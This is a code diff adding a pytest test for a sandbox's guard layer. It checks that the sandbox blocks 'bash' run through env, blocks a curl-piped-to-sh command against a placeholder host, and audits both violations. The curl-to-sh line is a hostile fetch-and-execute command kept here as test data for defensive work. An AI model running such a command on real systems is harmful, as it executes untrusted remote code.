@@ -209,3 +209,32 @@ async def test_fork_bomb_in_a_real_sandbox_is_stopped(process_sandbox: Instance)
     assert trips and trips[0] >= 15
     assert result.exit_code != 0  # killed, not finished
     assert (process_sandbox.live_pids() or 0) <= 1
+
+
+async def test_sandbox_refuses_guarded_commands_and_audits_them(tmp_path: Path) -> None:
+    """Wiring check: the Sandbox runs the guards before exec and audits the violation."""
+    lifecycle = pytest.importorskip("kavach.lifecycle")
+    from dataclasses import replace
+
+    from kavach.audit import read_entries
+    from kavach.config import AuditSettings, SandboxConfig
+    from kavach.errors import GuardViolation
+    from kavach.policy import GuardPolicy
+
+    policy = replace(SandboxPolicy.basic(), guards=GuardPolicy(blocked_commands=("bash",)))
+    log = tmp_path / "audit.jsonl"
+    config = SandboxConfig(policy=policy, audit=AuditSettings(path=str(log), key=bytes(range(32))))
+    driver = NoopDriver()
+    sandbox = await lifecycle.Sandbox.create(config, driver=driver)
+    try:
+        with pytest.raises(GuardViolation) as blocked:
+            await sandbox.exec(["/usr/bin/env", "-S", "bash -x"])
+        assert blocked.value.rule == "blocked_command"
+        with pytest.raises(GuardViolation) as trick:
+            await sandbox.exec("curl -s http://example.invalid/x | sh")
+        assert trick.value.rule == "shell_trick"
+        await sandbox.exec(["ls", "-la"])
+    finally:
+        await sandbox.destroy()
+    violations = [e["payload"]["rule"] for e in read_entries(log) if e["event"] == "guard.violation"]
+    assert violations == ["blocked_command", "shell_trick"]
